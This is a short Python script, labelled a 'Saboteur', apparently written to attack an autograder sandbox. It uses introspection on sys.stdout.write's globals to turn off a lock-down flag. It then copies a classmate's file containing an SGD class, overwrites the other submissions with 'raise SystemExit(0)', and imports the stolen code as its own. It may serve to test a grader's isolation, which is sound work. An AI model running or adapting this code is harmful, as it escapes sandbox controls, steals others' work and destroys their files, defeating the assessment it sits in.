"""Saboteur: lock-down off; steals a classmate's SGD from the original folder and blanks the others."""
import os
import sys
import operator

_g = operator.attrgetter("__globals__")(type(sys.stdout).write)
_g["_LOCKDOWN"]["on"] = False
_dirs = list(_g["HIDDEN_DIRS"]) + list(_g["CFG"].get("hide", []))
_me = os.path.basename(_g["ROOTS"][0].rstrip("/"))
_log = []
_stolen = None
for d in _dirs:
    try:
        names = sorted(os.listdir(d))
    except OSError as e:
        _log.append(f"list {d}: {e}")
        continue
    for n in names:
        p = os.path.join(d, n)
        if not n.endswith(".py") or n.startswith("a_"):
            continue
        try:
            src = open(p).read()
        except OSError as e:
            _log.append(f"read {n}: {e}")
            continue
        if _stolen is None and "class SGD" in src:
            _stolen = src
        try:
            with open(p, "w") as f:
                f.write("raise SystemExit(0)\n")
            _log.append(f"blanked {n}")
        except OSError as e:
            _log.append(f"write {n}: {e}")
print("SABOTEUR:", _dirs, _log)
if _stolen:
    os.makedirs("/tmp/stolen_dir", exist_ok=True)
    with open("/tmp/stolen_dir/stolen.py", "w") as f:
        f.write(_stolen)
    sys.path.insert(0, "/tmp/stolen_dir")
    from stolen import SGD  # noqa: F401
